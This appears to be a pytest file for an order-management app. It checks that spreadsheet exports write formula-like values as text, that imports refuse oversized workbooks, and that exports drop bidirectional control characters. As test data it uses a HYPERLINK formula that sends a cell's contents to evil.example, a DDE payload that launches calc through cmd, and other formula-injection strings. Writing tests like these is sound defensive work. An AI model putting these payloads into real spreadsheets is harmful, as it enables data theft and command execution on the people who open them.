"""Exports never carry formulas from data: text that starts like a formula (= + - @, a tab or a
carriage return) is written as a text cell by every writer — the exports of each kind, the table
exports, templates, the marked copy of an import with its Problems sheet, the planning board — and
reads back as the same text; numbers stay numbers. Also: a formula with no saved value is named as
such in the dry run, not as an empty cell."""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select, update

from app.exchange import api, importer, planning_xlsx
from app.exchange.kinds import KINDS
from app.exchange.reading import read_sheet
from app.exchange.writing import write_table
from app.models import Customer, Product

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "#REF!", "=", "-"]
WHO = {"products": "production", "customers": "sales", "stock": "production", "prices": "management",
       "orders": "sales", "history": "management", "forecasts": "marketing", "invoices": "finance"}


def _set(db, who, model, where, **values) -> None:
    db.write(who, lambda uow: uow.session.execute(update(model).where(where).values(**values)))


def _first_customer(db) -> str:
    with db.read() as s:
        return s.scalars(select(Customer.code).order_by(Customer.code)).first()


def _formulas(path: Path) -> list[str]:
    """Every formula element in every sheet of the workbook, as stored."""
    with zipfile.ZipFile(path) as z:
        return [f"{n}: {m}" for n in z.namelist() if n.startswith("xl/worksheets/")
                for m in re.findall(rb"<f[\s>][^<]*", z.read(n))]


def test_a_customer_named_like_a_formula_exports_as_text_and_reimports_unchanged(demo, tmp_path) -> None:
    db, actor = demo
    code = _first_customer(db)
    _set(db, actor("sales"), Customer, Customer.code == code, name=HYPERLINK, email=DDE)
    path = tmp_path / "customers.xlsx"
    api.export_kind(db, actor("sales"), "customers", path)
    assert _formulas(path) == []
    ws = load_workbook(path).active
    heads = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == code)
    name, email = row[heads.index("Name")], row[heads.index("E-mail")]
    assert (name.value, name.data_type, email.value, email.data_type) == (HYPERLINK, "s", DDE, "s")
    # numbers stay numbers
    assert row[heads.index("Payment terms (days)")].data_type == "n"
    # calamine reads the same text back
    data = read_sheet(path)
    got = next(r for r in data.rows if r[0] == code)
    assert got[heads.index("Name")] == HYPERLINK and got[heads.index("E-mail")] == DDE
    # and the import finds nothing changed (the round trip with the name alone: that e-mail column
    # holds no e-mail address, which the import's own checks may refuse)
    _set(db, actor("sales"), Customer, Customer.code == code, email=None)
    api.export_kind(db, actor("sales"), "customers", path)
    plan = importer.dry_run(db, actor("sales"), "customers", path)
    assert plan.ok and (plan.created, plan.updated) == (0, 0), [str(p) for p in plan.problems[:3]]


def test_no_export_kind_writes_a_formula_from_data(demo, tmp_path) -> None:
    db, actor = demo
    _set(db, actor("management"), Product, Product.sku == "SH-1200-5", name=HYPERLINK, location=DDE)
    _set(db, actor("sales"), Customer, Customer.code == _first_customer(db), name="@SUM(A1:A9)", phone="+44 1234")
    for kind in KINDS:
        path = tmp_path / f"{kind}.xlsx"
        api.export_kind(db, actor(WHO.get(kind, "management")), kind, path)
        assert _formulas(path) == [], kind
    ws = load_workbook(tmp_path / "products.xlsx").active
    values = {c.value for r in ws.iter_rows(min_row=2) for c in r if c.data_type == "s"}
    assert {HYPERLINK, DDE} <= values


def test_the_table_writer_keeps_text_as_text_and_numbers_as_numbers(tmp_path) -> None:
    path = tmp_path / "t.xlsx"
    rows = [[v, -5, Decimal("-2.50"), dt.date(2026, 11, 26), "plain", None] for v in HOSTILE]
    write_table(path, "=Title", [("=Head", "text"), ("Qty", "int"), ("Amount", "money"), ("Date", "date"),
                                ("Note", "text"), ("Empty", "text")], rows)
    assert _formulas(path) == []
    ws = load_workbook(path).active
    assert ws["A1"].value == "=Head" and ws["A1"].data_type == "s"
    for i, v in enumerate(HOSTILE, start=2):
        a, b, c = ws.cell(i, 1), ws.cell(i, 2), ws.cell(i, 3)
        assert (a.value, a.data_type) == (v, "s"), v
        assert (b.value, b.data_type, c.value, c.data_type) == (-5, "n", -2.5, "n")
        assert ws.cell(i, 3).number_format == '"£"#,##0.00'  # the firm's currency (GBP by default)
    # calamine (the importer's reader) reads exactly the text written
    assert [r[0] for r in read_sheet(path).rows[1:]] == HOSTILE


def test_templates_and_the_planning_board_write_codes_and_names_as_text(demo, tmp_path) -> None:
    db, actor = demo
    _set(db, actor("sales"), Customer, Customer.code == _first_customer(db), code="=ACME")
    t = api.template(db, actor("sales"), "orders", tmp_path / "orders-template.xlsx")
    assert _formulas(t) == []
    lists = load_workbook(t)["Lists"]
    assert any(c.value == "=ACME" and c.data_type == "s" for col in lists.iter_cols() for c in col)
    cell = SimpleNamespace(history=Decimal(5), baseline=None, marketing=Decimal(-3), production=None,
                           consensus=Decimal(7), gap=False)
    board = SimpleNamespace(granularity="month", periods=[dt.date(2027, 1, 1)],
                            rows=[SimpleNamespace(sku="-SKU", name=HYPERLINK, family_name="@fam", cells=[cell])])
    out = planning_xlsx.export_board(board, tmp_path / "board.xlsx")
    assert _formulas(out) == []
    ws = load_workbook(out).active
    assert [ws["A2"].value, ws["B2"].value, ws["C2"].value] == ["-SKU", HYPERLINK, "@fam"]
    assert ws["E4"].value == -3 and ws["E4"].data_type == "n"


def test_the_marked_copy_lists_values_that_look_like_formulas_as_text(demo, tmp_path) -> None:
    db, actor = demo
    wb = Workbook()
    ws = wb.active
    ws.append(["SKU", "Counted"])
    ws.append(["SH-1200-5", None])
    ws["B2"].value, ws["B2"].data_type = HYPERLINK, "s"  # the user typed it as text
    ws.append(["-NOPE", 3])
    src = tmp_path / "count.xlsx"
    wb.save(src)
    plan = importer.dry_run(db, actor("production"), "stock", src)
    assert {(p.row, p.column) for p in plan.problems} == {(2, "B"), (3, "A")}
    report = importer.write_report(plan, tmp_path / "count-problems.xlsx")
    assert _formulas(report) == []
    marked = load_workbook(report)
    values = [c.value for r in marked["Problems"].iter_rows(min_row=2) for c in r]
    assert HYPERLINK in values and "-NOPE" in values
    assert marked["Sheet"]["B2"].value == HYPERLINK and marked["Sheet"]["B2"].data_type == "s"


def test_a_formula_without_a_saved_value_is_named_at_its_cell(demo, tmp_path) -> None:
    db, actor = demo
    wb = Workbook()  # openpyxl writes formulas and never their values, like any program that does not calculate
    ws = wb.active
    ws.append(["SKU", "Name", "Family", "List price"])
    ws.append(["NEW-1", "New one", "SHU", "=10*2"])
    ws.append(["NEW-2", '=CONCAT("New ","two")', "SHU", 5])
    ws.append(["NEW-3", "New three", "SHU", 7])
    src = tmp_path / "products.xlsx"
    wb.save(src)
    plan = importer.dry_run(db, actor("management"), "products", src)  # new products with prices: management's
    where = sorted((p.row, p.column, p.reason) for p in plan.problems)
    reason = "a formula with no saved value (open and save the file in Excel, or type the value)"
    assert where == [(2, "D", reason), (3, "B", reason)]
    assert not any("required, but empty" in p.reason for p in plan.problems)
    # with the values saved (as Excel does), the same formulas import
    with zipfile.ZipFile(src) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    sheet = sheet.replace(b"<f>10*2</f><v></v>", b"<f>10*2</f><v>20</v>").replace(
        b'<f>CONCAT("New ","two")</f><v></v>', b'<f>CONCAT("New ","two")</f><v>New two</v>')
    sheet = sheet.replace(b'<c r="B3"', b'<c r="B3" t="str"')
    saved = tmp_path / "saved.xlsx"
    with zipfile.ZipFile(saved, "w", zipfile.ZIP_DEFLATED) as z:
        for n, raw in parts.items():
            z.writestr(n, sheet if n == "xl/worksheets/sheet1.xml" else raw)
    plan = importer.dry_run(db, actor("management"), "products", saved)
    assert plan.ok and plan.created == 3, [str(p) for p in plan.problems]


def test_the_import_command_refuses_a_cell_at_xfd1048576_and_exits_1(demo, db_url, tmp_path) -> None:
    """`ordercycle import` in a process of its own, as a desk or a script runs it: a 1.8 KB file
    with one cell at XFD1048576 is refused with the reason (exit 1), not a crash (exit 134)."""
    import os
    import subprocess
    import sys

    from tests.unit.test_workbook_hostile import FAR, HEAD, book

    far = book(tmp_path / "far.xlsx", HEAD + f'<row r="1048576"><c r="{FAR}"><v>1</v></c></row>')
    res = subprocess.run([sys.executable, "-m", "app", "import", "--db", db_url, "--kind", "stock", "--dry-run",
                          str(far)], check=False, capture_output=True, text=True, timeout=120,
                         cwd=Path(__file__).parents[2],
                         env={**os.environ, "QT_QPA_PLATFORM": "offscreen", "ORDERCYCLE_USER": "production",
                              "ORDERCYCLE_PASSWORD": "demo1234"})  # import signs in (issue 18)
    assert res.returncode == 1, (res.returncode, res.stderr[-2000:])
    assert "far.xlsx is too big to import: it spans 1,048,576 rows × 16,384 columns" in res.stderr


def test_the_planning_import_refuses_a_hostile_workbook_before_openpyxl_reads_it(demo, tmp_path) -> None:
    """openpyxl's read-only rows run from A1 to the farthest cell: one cell at XFD1048576 would be
    a million rows of 16,384 cells each. The same checks as the import refuse it first."""
    from app.exchange.guard import BadFile
    from tests.unit.test_workbook_hostile import FAR, HEAD, book

    db, _actor = demo
    far = book(tmp_path / "far.xlsx", HEAD + f'<row r="1048576"><c r="{FAR}"><v>1</v></c></row>')
    with pytest.raises(BadFile, match="spans 1,048,576 rows × 16,384 columns"):
        planning_xlsx.read_figures(db, far, "marketing")


def test_bidirectional_controls_never_reach_an_export(demo, tmp_path) -> None:
    """A right-to-left override in a name would reverse what Excel shows after it: exports drop
    bidirectional controls (as printed documents do); the letters themselves stay."""
    db, actor = demo
    code = _first_customer(db)
    _set(db, actor("sales"), Customer, Customer.code == code, name="ACME\u202e Ltd 12 Harbour Road")
    path = tmp_path / "customers.xlsx"
    api.export_kind(db, actor("sales"), "customers", path)
    ws = load_workbook(path).active
    heads = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == code)
    assert row[heads.index("Name")].value == "ACME Ltd 12 Harbour Road"
